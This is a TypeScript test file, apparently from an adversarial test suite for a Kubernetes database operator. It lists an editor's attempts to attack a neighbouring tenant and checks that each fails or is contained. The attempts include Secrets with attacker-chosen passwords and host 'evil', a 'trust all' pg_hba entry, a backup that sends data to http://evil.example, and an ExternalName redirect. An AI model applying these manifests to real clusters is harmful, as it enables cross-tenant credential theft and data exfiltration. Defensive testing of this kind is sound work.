@@ -1,0 +1,305 @@
+// Attempts of an editor of one namespace: he plants objects there that pass for children of the victim's resources, changes children of
+// his own, and leads the operator where he likes by connection Secrets.
+
+import { workerOrderIn } from '../../../src/controllers/migration/worker-order.ts'
+import type { AdversaryStage } from '../adversary-stage.ts'
+import { type Attempt, forbidden, harmless, type Outcome, tolerated } from '../attempt.ts'
+import { encoded, victimNamespace } from '../victim.ts'
+import { connectionAttempts } from './connections.ts'
+
+type Act = Attempt['act']
+
+const attempt = (does: string, act: Act, outcome: Outcome): Attempt => ({ attacker: 'editor', does, act, outcome })
+
+const apart = harmless('It is no child: what the victim’s resources have is as before.')
+const labels = (stage: AdversaryStage, kind: string, name: string, plural: string) => ({
+  'applyset.kubernetes.io/part-of': stage.setIdOf(kind, name),
+  'konverge.dev/owned-by': `${plural}.data.konverge.dev`,
+})
+const marks = (stage: AdversaryStage, kind: string, name: string) => ({
+  'konverge.dev/part-of': stage.setIdOf(kind, name),
+  'konverge.dev/apply-order': '3',
+  'konverge.dev/prune': 'disabled',
+})
+
+interface Plant {
+  readonly kind: string
+  /** By default the name of the victim's own child. */
+  readonly name: string
+  readonly of: readonly [kind: string, name: string, plural: string]
+  readonly parts?: object
+}
+
+const pod = {
+  metadata: { labels: { a: 'b' } },
+  spec: { containers: [{ name: 'a', image: 'evil' }], restartPolicy: 'Never' },
+}
+const podOfSet = { ...pod, spec: { containers: pod.spec.containers } }
+
+const password = encoded({
+  username: 'app_a',
+  password: 'chosen by the attacker',
+  host: 'evil',
+  port: '5432',
+  type: 'postgresql',
+  provider: 'konverge',
+  database: 'orders',
+  sslmode: 'disable',
+})
+const plants: readonly Plant[] = [
+  { kind: 'secret', name: 'app-db', of: ['DatabaseUser', 'app', 'databaseusers'], parts: { data: password } },
+  { kind: 'secret', name: 'vault-postgres-admin', of: ['Database', 'vault', 'databases'], parts: { data: password } },
+  {
+    kind: 'secret',
+    name: 'vault-postgres-tls',
+    of: ['Database', 'vault', 'databases'],
+    parts: { data: encoded({ 'tls.crt': 'x', 'tls.key': 'y' }) },
+  },
+  {
+    kind: 'configmap',
+    name: 'vault-postgres',
+    of: ['Database', 'vault', 'databases'],
+    parts: { data: { 'pg_hba.conf': 'host all all all trust' } },
+  },
+  {
+    kind: 'service',
+    name: 'vault-postgres',
+    of: ['Database', 'vault', 'databases'],
+    parts: { spec: { ports: [{ port: 5432 }] } },
+  },
+  {
+    kind: 'statefulset',
+    name: 'vault-postgres',
+    of: ['Database', 'vault', 'databases'],
+    parts: { spec: { serviceName: 'x', selector: { matchLabels: { a: 'b' } }, template: podOfSet } },
+  },
+  {
+    kind: 'statefulset',
+    name: 'cart',
+    of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'],
+    parts: { spec: { serviceName: 'x', selector: { matchLabels: { a: 'b' } }, template: podOfSet } },
+  },
+  {
+    kind: 'pvc',
+    name: 'data-cart-0',
+    of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'],
+    parts: { spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } } },
+  },
+  {
+    kind: 'pdb',
+    name: 'cart',
+    of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'],
+    parts: { spec: { maxUnavailable: 0, selector: { matchLabels: { a: 'b' } } } },
+  },
+  { kind: 'serviceaccount', name: 'cart', of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'] },
+  {
+    kind: 'configmap',
+    name: 'orders-v1-planted',
+    of: ['Migration', 'orders-v1', 'migrations'],
+    parts: { data: { 'order.json': '{"format":1}' } },
+  },
+  {
+    kind: 'job',
+    name: 'orders-v1-planted',
+    of: ['Migration', 'orders-v1', 'migrations'],
+    parts: { spec: { template: pod } },
+  },
+  {
+    kind: 'bak',
+    name: 'nightly-planted',
+    of: ['Backup', 'nightly', 'backups'],
+    parts: {
+      spec: { databaseRef: { name: 'orders' }, target: { s3: { bucket: 'loot', endpoint: 'http://evil.example' } } },
+    },
+  },
+]
+
+const nameOfKind: Readonly<Record<string, string>> = {
+  bak: 'Backup',
+  configmap: 'ConfigMap',
+  job: 'Job',
+  pdb: 'PodDisruptionBudget',
+  pvc: 'PersistentVolumeClaim',
+  secret: 'Secret',
+  service: 'Service',
+  serviceaccount: 'ServiceAccount',
+  statefulset: 'StatefulSet',
+}
+
+function planting({ kind, name, of: [parent, parentName, plural], parts = {} }: Plant): readonly Attempt[] {
+  const what = `a ${nameOfKind[kind]} ${name}`
+  return [
+    attempt(
+      `plants ${what} with the labels, annotations and field manager of a child of the victim’s ${parent}`,
+      (stage) => {
+        const metadata = {
+          labels: labels(stage, parent, parentName, plural),
+          annotations: marks(stage, parent, parentName),
+        }
+        return stage.editor.apply(kind, name, { metadata, ...parts }, { as: 'konverge' })
+      },
+      apart,
+    ),
+    attempt(
+      `plants ${what} whose owner is the victim’s ${parent}, by its uid`,
+      async (stage) => {
+        const ownerReferences = [await stage.ownerReference(parent.toLowerCase(), parentName)]
+        const metadata = { ownerReferences, labels: labels(stage, parent, parentName, plural) }
+        await stage.editor.apply(kind, name, { metadata, ...parts }, { as: 'konverge' })
+      },
+      apart,
+    ),
+  ]
+}
+
+/** Planted before the victim makes the resource whose child it would be. */
+const early: readonly Attempt[] = [
+  attempt(
+    'plants the Secret of a DatabaseUser that the victim makes later',
+    async (stage, name) => {
+      const metadata = {
+        labels: labels(stage, 'DatabaseUser', name, 'databaseusers'),
+        annotations: marks(stage, 'DatabaseUser', name),
+      }
+      await stage.editor.apply('secret', `${name}-db`, { metadata, data: password }, { as: 'konverge' })
+      await stage.forVictim('DatabaseUser', name, { databases: [{ name: 'shared', access: 'ReadOnly' }] }, async () => {
+        await stage.until('it to be Ready', async () => (await stage.victimReady('dbu', name)) === true)
+        const { data } = (await stage.victim.find('secret', `${name}-db`)) ?? {}
+        if (data?.['password'] === password['password']) throw new Error('the password is the attacker’s')
+      })
+    },
+    harmless('Its password is the operator’s own.'),
+  ),
+  attempt(
+    'plants the administrator’s Secret of a server that the victim makes later',
+    async (stage, name) => {
+      const metadata = {
+        labels: labels(stage, 'Database', name, 'databases'),
+        annotations: marks(stage, 'Database', name),
+      }
+      await stage.editor.apply('secret', `${name}-postgres-admin`, { metadata, data: password }, { as: 'konverge' })
+      const spec = { version: '18', provider: { inCluster: {} }, deletionPolicy: 'Delete' }
+      await stage.forVictim('Database', name, spec, async () => {
+        const secret = async () => (await stage.victim.find('secret', `${name}-postgres-admin`))?.data
+        await stage.until('its Secret', async () => (await secret()) !== undefined)
+        if ((await secret())?.['password'] === password['password']) throw new Error('the password is the attacker’s')
+      })
+    },
+    harmless('Its password is the operator’s own.'),
+  ),
+  attempt(
+    'plants an object that does not go, as a child of a store that the victim deletes',
+    async (stage, name) => {
+      const metadata = {
+        finalizers: ['attacker.example/hold'],
+        labels: labels(stage, 'ReplicatedKVStore', name, 'replicatedkvstores'),
+        annotations: marks(stage, 'ReplicatedKVStore', name),
+      }
+      await stage.editor.apply('configmap', name, { metadata }, { as: 'konverge' })
+      await stage.editor.apply('service', name, { metadata, spec: { ports: [{ port: 80 }] } }, { as: 'konverge' })
+      await stage.forVictim('ReplicatedKVStore', name, { image: 'valkey/valkey:8.0', replicas: 1 }, async () => {
+        await stage.until('it to be Ready', async () => (await stage.victimReady('kv', name)) === true)
+      })
+      for (const kind of ['configmap', 'service'])
+        await stage.editor.patch(kind, name, { metadata: { finalizers: null } })
+    },
+    harmless('The store goes; the planted object is not waited for.'),
+  ),
+]
+
+const children: readonly Attempt[] = [
+  attempt(
+    'gives a child of his own the labels of the victim’s',
+    (stage) =>
+      stage.editor.patch('secret', 'owner-db', {
+        metadata: { labels: labels(stage, 'DatabaseUser', 'app', 'databaseusers') },
+      }),
+    harmless('The operator puts its labels back; the victim’s see no child.'),
+  ),
+  attempt(
+    'puts a child of his own below the victim by its owner reference',
+    async (stage) => {
+      const ownerReferences = [await stage.ownerReference('databaseuser', 'app')]
+      await stage.editor.patch('secret', 'writer-db', { metadata: { ownerReferences } })
+    },
+    tolerated('The victim’s users see no child.'),
+  ),
+  attempt(
+    'hands an object over to the victim by konverge.dev/adopt',
+    (stage) => {
+      const annotations = { 'konverge.dev/adopt': `DatabaseUser/${victimNamespace}/app` }
+      return stage.editor.create('secret', 'app-db', { metadata: { annotations }, data: password })
+    },
+    apart,
+  ),
+  attempt(
+    'changes the password in the Secret of his user',
+    (stage) =>
+      stage.editor.patch('secret', 'owner-db', {
+        data: { password: Buffer.from('own-choice-of-his').toString('base64') },
+      }),
+    tolerated('At most his own login changes.'),
+  ),
+  attempt(
+    'creates the Service of the victim’s server in his namespace',
+    ({ editor }) =>
+      editor.create('service', 'vault-postgres', { spec: { type: 'ExternalName', externalName: 'evil.example' } }),
+    apart,
+  ),
+  attempt(
+    'binds a role to himself',
+    ({ editor }, name) =>
+      editor.create('rolebinding', name, {
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'konverge-system:konverge' },
+        subjects: [],
+      }),
+    forbidden,
+  ),
+  attempt(
+    'reads the Secrets of the victim',
+    ({ editor }) => editor.list('secret', { namespace: victimNamespace }),
+    forbidden,
+  ),
+  attempt(
+    'reads the Secrets of the operator’s namespace',
+    ({ editor }) => editor.list('secret', { namespace: 'konverge-system' }),
+    forbidden,
+  ),
+  attempt(
+    'labels a namespace so that a selector of the victim’s lets it in',
+    ({ editor }) => editor.patch('namespace', 'attacker', { metadata: { labels: { trusted: 'yes' } } }),
+    forbidden,
+  ),
+  attempt(
+    'writes the state of a Database of his own',
+    ({ editor }) => editor.patch('db', 'mine', { status: { phase: 'Ready' } }, { subresource: 'status' }),
+    forbidden,
+  ),
+]
+
+const orders: readonly Attempt[] = [
+  attempt(
+    'changes the order of a Migration, so that it leads to the victim’s database',
+    async (stage, name) => {
+      const order = await stage.orderOf(name, [{ name: 'only', sql: 'SELECT 1' }])
+      if (order === undefined) throw new Error('the order was rejected')
+      const text = order.text.replaceAll('"mine"', '"orders"').replaceAll('mine_owner', 'orders_owner')
+      await stage.editor.patch('configmap', order.name, { data: { 'order.json': text } })
+      stage.report = workerOrderIn(text, order.digest) ?? 'refused'
+    },
+    tolerated(
+      'The order is immutable, and the worker takes no order but the one whose digest its Job names.',
+      async (stage) => {
+        if (stage.report !== 'refused') throw new Error(`the worker took the order: ${JSON.stringify(stage.report)}`)
+      },
+    ),
+  ),
+]
+
+export const editorAttempts: readonly Attempt[] = [
+  ...plants.flatMap(planting),
+  ...early,
+  ...children,
+  ...connectionAttempts,
+  ...orders,
+]
